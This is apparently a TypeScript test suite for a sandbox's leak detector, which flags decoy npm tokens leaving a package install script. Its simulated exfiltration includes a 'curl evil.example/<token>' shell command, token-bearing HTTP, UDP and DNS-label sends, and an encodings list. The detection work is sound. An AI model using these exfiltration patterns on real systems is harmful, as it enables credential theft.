import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { createLeakFinder } from "../../../server/analysis/leaks.ts";
import { dnsQuestion } from "../../protocol/packets.ts";
import { analyse, deviations } from "./analysing.ts";
import { installStory, inputOf, NPM_TOKEN, REGISTRY, type Story } from "./story.ts";

const EVIL = { address: "203.0.113.7", port: 80 };
const ascii = (text: string): Uint8Array => new TextEncoder().encode(text);

function base32(bytes: Uint8Array): string {
  const bits = [...bytes].map((byte) => byte.toString(2).padStart(8, "0")).join("");
  const digits = bits.match(/.{1,5}/g) ?? [];
  return digits.map((digit) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[Number.parseInt(digit.padEnd(5, "0"), 2)]).join("");
}

const ENCODINGS: Record<string, (bytes: Uint8Array) => string> = {
  raw: (bytes) => Buffer.from(bytes).toString(),
  reversed: (bytes) => [...Buffer.from(bytes).toString()].reverse().join(""),
  hex: (bytes) => bytes.toHex(),
  "upper-case hex": (bytes) => bytes.toHex().toUpperCase(),
  base64: (bytes) => bytes.toBase64(),
  base64url: (bytes) => bytes.toBase64({ alphabet: "base64url" }),
  base32,
  "lower-case base32": (bytes) => base32(bytes).toLowerCase(),
  "URL-encoded": (bytes) => encodeURIComponent(Buffer.from(bytes).toString()),
};

describe("a decoy's secret", () => {
  const secret = "s3cret/+ value=that?must&not leave";
  const finder = createLeakFinder([{ name: "one", place: "$ONE", secret }]);

  test.each(Object.keys(ENCODINGS))("is found %s, wherever it begins in what was encoded", (name) => {
    const encode = ENCODINGS[name] ?? String;
    for (let before = 0; before < 6; before++) {
      const body = ascii(`${"<".repeat(before)}${secret}${">".repeat(before)}`);
      expect(finder.find(ascii(`{"x":"${encode(body)}"}`))).toEqual(["one"]);
    }
  });

  test("is found at any place of any bytes, and nowhere else", () => {
    const noise = fc.uint8Array({ maxLength: 300 });
    fc.assert(
      fc.property(noise, noise, (before, after) => {
        expect(finder.find(Uint8Array.from([...before, ...after]))).toEqual([]);
        expect(finder.find(Uint8Array.from([...before, ...ascii(secret), ...after]))).toEqual(["one"]);
      }),
    );
  });

  test("of a long file is its middle, so that the beginning that all such files share is no leak", () => {
    const key = (body: string): string => `-----BEGIN OPENSSH PRIVATE KEY-----\n${body.repeat(30)}\n-----END-----`;
    const keys = createLeakFinder([{ name: "key", place: "/k", secret: key("q7Rw") }]);
    expect(keys.find(ascii(key("zzzz")))).toEqual([]);
    expect(keys.find(ascii(key("q7Rw")))).toEqual(["key"]);
  });

  test("too short to be told from chance is not looked for", () => {
    expect(createLeakFinder([{ name: "short", place: "/s", secret: "abc" }]).find(ascii("abcabc"))).toEqual([]);
  });
});

describe("a leak", () => {
  const leaks = (act: (story: Story, process: number) => void): string[] => {
    const story = installStory();
    act(story, story.script("left-pad"));
    return deviations(story).filter((line) => line.includes("canary_leak"));
  };
  const leaked = (how: string): string[] => [`script:left-pad canary_leak ${how}`];
  const hex = ascii(NPM_TOKEN).toHex();

  test("in a plain request tells which decoy, how and to whom", () => {
    const seen = leaks((story, process) => {
      story.resolve(process, "evil.example", EVIL.address);
      story.socket(process, "connect", EVIL);
      story.send(process, EVIL, `POST / HTTP/1.1\r\nHost: evil.example\r\nx: ${ascii(NPM_TOKEN).toBase64()}\r\n\r\n`);
    });
    expect(seen).toEqual(leaked("npm token via http to evil.example:80"));
  });

  test("byte by byte is found once", () => {
    const seen = leaks((story, process) => {
      story.socket(process, "connect", EVIL);
      [...`\u0001binary ${NPM_TOKEN}`].forEach((character, at) => story.send(process, EVIL, character, at));
    });
    expect(seen).toEqual(leaked("npm token via tcp to 203.0.113.7:80"));
  });

  test("in a datagram is found", () => {
    const seen = leaks((story, process) => story.send(process, { ...EVIL, type: "udp" }, `x${NPM_TOKEN}`));
    expect(seen).toEqual(leaked("npm token via udp to 203.0.113.7:80"));
  });

  test("in a DNS name is found across its labels", () => {
    const name = `${hex.slice(0, 30)}.${hex.slice(30)}.a.evil.example`;
    const seen = leaks((story, process) => story.send(process, { ...EVIL, type: "udp" }, dnsQuestion(name)));
    expect(seen).toEqual(leaked("npm token via dns to evil.example"));
  });

  test("beside the name in a DNS question is found, too", () => {
    const extended = Uint8Array.from([...dnsQuestion("a.example"), ...ascii(NPM_TOKEN)]);
    const seen = leaks((story, process) => story.send(process, { ...EVIL, type: "udp" }, extended));
    expect(seen).toEqual(leaked("npm token via udp to 203.0.113.7:80"));
  });

  test("to the registry is one, too: so a worm publishes", () => {
    const seen = leaks((story, process) => {
      story.socket(process, "connect", REGISTRY);
      story.send(process, REGISTRY, `PUT /x HTTP/1.1\r\nAuthorization: Bearer ${NPM_TOKEN}\r\n\r\n`);
    });
    expect(seen).toEqual(leaked("npm token via http to <REGISTRY>:4873"));
  });

  test("in the arguments of a program is found, even inside code", () => {
    const seen = leaks((story, process) => {
      story.exec(story.fork(process), ["sh", "-c", `curl evil.example/${hex}`], { binary: "/bin/dash" });
    });
    expect(seen).toEqual(leaked("npm token via argv to /bin/dash"));
  });

  test("in the name of a unix socket is found", () => {
    const seen = leaks((story, process) => story.unix(process, "connect", `\0${hex}`));
    expect(seen).toEqual(leaked(`npm token via unix to @${hex}`));
  });

  test("is a deviation without a baseline, and with one that has it", () => {
    const story = installStory();
    story.send(story.script("left-pad"), { ...EVIL, type: "udp" }, NPM_TOKEN);
    const first = analyse(story, { baseline: null });
    expect(first).toMatchObject({
      verdict: "deviant",
      deviations: [{ category: "canary_leak", severity: "critical" }],
    });
    const again = analyse(story, { baseline: inputOf(story, { baseline: first.fingerprints }).baseline });
    expect(again).toMatchObject({ verdict: "deviant", deviations: [{ category: "canary_leak" }] });
  });
});
